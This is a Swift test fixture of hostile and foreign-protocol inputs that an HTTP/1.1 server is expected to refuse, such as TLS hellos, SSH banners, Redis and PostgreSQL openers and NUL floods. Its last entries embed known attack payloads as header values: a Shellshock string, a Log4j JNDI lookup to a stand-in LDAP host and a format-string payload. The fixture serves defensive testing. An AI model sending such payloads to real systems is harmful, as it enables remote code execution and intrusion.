// A public port hears every protocol there is. None of these is HTTP/1.1; each ends in one refusal
// and a close, and none of them may be answered in its own language. Those that speak in lines are
// given an empty one: a server may wait for the end of a head before it looks.

extension HostileRequest {
    static let foreignProtocols: [HostileRequest] = [
        .init(
            "the preface of HTTP/2",
            "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\u{0}\u{0}\u{0}\u{4}\u{0}\u{0}\u{0}\u{0}\u{0}",
            .refused(400, 501, 505)),
        .init(
            "a TLS 1.3 hello",
            "\u{16}\u{3}\u{1}\u{0}\u{c8}\u{1}\u{0}\u{0}\u{c4}\u{3}\u{3}"
                + WireBytes("\u{7}").repeated(32),
            .refused(400)),
        .init(
            "an SSL 2 hello", "\u{80}\u{2e}\u{1}\u{3}\u{1}\u{0}\u{15}\u{0}\u{0}\u{0}\u{10}",
            .refused(400)),
        .init("a TLS alert", "\u{15}\u{3}\u{3}\u{0}\u{2}\u{2}\u{28}\r\n\r\n", .refused(400)),
        .init("an SSH banner", "SSH-2.0-OpenSSH_9.2\r\n\r\n", .refused(400)),
        .init("a mail client", "EHLO a.test\r\n\r\n", .refused(400)),
        .init("an FTP client", "USER anonymous\r\n\r\n", .refused(400)),
        .init("a POP3 client", "CAPA\r\n\r\n", .refused(400)),
        .init("an IMAP client", "a1 LOGIN me secret\r\n\r\n", .refused(400)),
        .init("a Redis client", "*1\r\n$4\r\nPING\r\n\r\n", .refused(400)),
        .init("a Redis client that types", "SET k v\r\n\r\n", .refused(400, 505)),
        .init("a memcached client", "get k\r\n\r\n", .refused(400)),
        .init(
            "a PostgreSQL client", "\u{0}\u{0}\u{0}\u{8}\u{4}\u{d2}\u{16}\u{2f}", .refused(400)),
        .init(
            "a proxy's first line, version 1",
            "PROXY TCP4 10.0.0.1 10.0.0.2 1000 80\r\n" + .get(), .refused(400)),
        .init(
            "a proxy's first bytes, version 2",
            "\r\n\r\n\u{0}\r\nQUIT\n\u{21}\u{11}\u{0}\u{c}", .refused(400)),
        .init("a gopher client", "/static\r\n", .refused(400)),
        .init("HTTP/0.9", "GET /static\r\n\r\n", .refused(400, 505)),
        .init("RTSP", .message("OPTIONS * RTSP/1.0", "CSeq: 1"), .refused(400, 505)),
        .init("SIP", .message("INVITE sip:a@b SIP/2.0", "Via: x"), .refused(400, 501, 505)),
        .init(
            "an answer in the place of a request", .message("HTTP/1.1 200 OK", "Server: x"),
            .refused(400)),
        .init(
            "a FastCGI record", "\u{1}\u{1}\u{0}\u{1}\u{0}\u{8}\u{0}\u{0}\u{0}\u{1}", .refused(400)),
        .init("a masked web socket frame", "\u{81}\u{85}\u{1}\u{2}\u{3}\u{4}hello", .refused(400)),
        .init("a line of JSON", "{\"method\":\"GET\"}\r\n\r\n", .refused(400)),
        .init("a page of XML", "<?xml version=\"1.0\"?>\r\n\r\n", .refused(400)),
        .init(
            "a request in UTF-16",
            "\u{ff}\u{fe}G\u{0}E\u{0}T\u{0} \u{0}/\u{0}\r\u{0}\n\u{0}", .refused(400)),
        .init(
            "a request in UTF-16 without a mark",
            "G\u{0}E\u{0}T\u{0} \u{0}/\u{0}\r\u{0}\n\u{0}\r\u{0}\n\u{0}", .refused(400)),
        .init("a thousand NULs", WireBytes("\u{0}").repeated(1_000), .refused(400)),
        .init("a thousand bytes of 0xFF", WireBytes("\u{ff}").repeated(1_000), .refused(400)),
        .init(
            "a shell-shocked agent is only a field", .get("User-Agent: () { :; }; echo"),
            .served(200)),
        .init("a log4j lookup is only a field", .get("X: ${jndi:ldap://x/y}"), .served(200)),
        .init("a format string is only a field", .get("X: %s%s%n%n"), .served(200)),
    ]
}
